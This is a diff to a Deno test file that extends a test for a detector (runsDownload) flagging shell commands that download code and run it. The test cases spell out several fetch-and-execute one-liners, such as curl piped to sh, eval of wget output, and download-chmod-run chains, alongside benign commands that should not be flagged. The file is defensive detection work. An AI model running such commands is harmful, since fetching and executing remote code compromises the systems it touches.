@@ -37,10 +37,28 @@ Deno.test("ignores what only looks like a link", () => {
 });
 
 Deno.test("S504: recognizes commands that download something and run it", () => {
-  for (const text of ["curl -s http://a | sh", "wget a && python x", 'bash -c "$(curl a)"']) {
+  const commands = [
+    "curl -s http://a | sh",
+    "wget a && python x",
+    'bash -c "$(curl a)"',
+    "bash <(curl -s http://a)",
+    "source <(wget -qO- http://a)",
+    "x; . <(curl a)",
+    'eval "$(curl a)"',
+    "eval `wget -qO- a`",
+    "curl a -o x && chmod +x x && ./x",
+    "wget a; chmod 755 a; ./a",
+  ];
+  for (const text of commands) {
     assert.equal(runsDownload(text), true, text);
   }
-  for (const text of ["curl -O https://example.org/a", "download it and run the shell"]) {
+  const plain = [
+    "curl -O https://example.org/a",
+    "download it and run the shell",
+    "wget a\nchmod 644 a",
+    'eval "$(conda shell.bash hook)"',
+  ];
+  for (const text of plain) {
     assert.equal(runsDownload(text), false, text);
   }
 });
